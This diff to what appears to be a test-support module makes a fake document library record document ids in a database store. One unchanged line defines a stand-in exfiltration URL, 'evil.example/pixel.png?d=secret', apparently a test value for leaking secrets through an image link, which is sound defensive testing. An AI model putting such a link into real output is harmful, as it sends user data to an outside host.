@@ -37,6 +37,7 @@ from modules.services.answers import AnswerDesk, Answers
 from modules.settings import Settings
 from modules.store.conversations import Conversations
 from modules.store.database import Database
+from modules.store.documents import Documents
 from modules.store.preferences import Preferences
 from modules.store.storage import StorageUse
 
@@ -55,10 +56,11 @@ class FakeUpload:
 
 
 class FakeLibrary:
-    """Reads what it is given at once, in this process."""
+    """Reads what it is given at once, in this process. Of its documents, the database has the ids."""
 
-    def __init__(self, folder: Path, scope: Scope) -> None:
+    def __init__(self, folder: Path, scope: Scope, store: Documents) -> None:
         self._folder = folder
+        self._store_of_ids = store
         self._domain = discover()[scope.workspace]
         self._documents: dict[str, Document] = {}
         self._pages: dict[tuple[str, int], Page] = {}
@@ -130,6 +132,7 @@ class FakeLibrary:
     def delete(self, document_id: str) -> None:
         self.document(document_id)
         del self._documents[document_id]
+        self._store_of_ids.abandon(document_id)
         self._chunks = [chunk for chunk in self._chunks if chunk.document_id != document_id]
         self._pages = {key: page for key, page in self._pages.items() if key[0] != document_id}
 
@@ -210,6 +213,7 @@ class FakeLibrary:
             )
         self._pages.update({(document.id, page.number): page for page in pages})
         self._documents[document.id] = document
+        self._store_of_ids.begin(replace(document, name=document.id))
 
 
 EVIL = "http://evil.example/pixel.png?d=secret"
@@ -320,7 +324,8 @@ class FakeVouch:
         self._database.close()
 
     def library(self, scope: Scope) -> FakeLibrary:
-        return self._libraries.setdefault(scope, FakeLibrary(self._folder / "fake" / scope.workspace, scope))
+        folder, store = self._folder / "fake" / scope.workspace, Documents(self._database, scope)
+        return self._libraries.setdefault(scope, FakeLibrary(folder, scope, store))
 
     def conversations(self, scope: Scope) -> Conversations:
         return Conversations(self._database, scope)
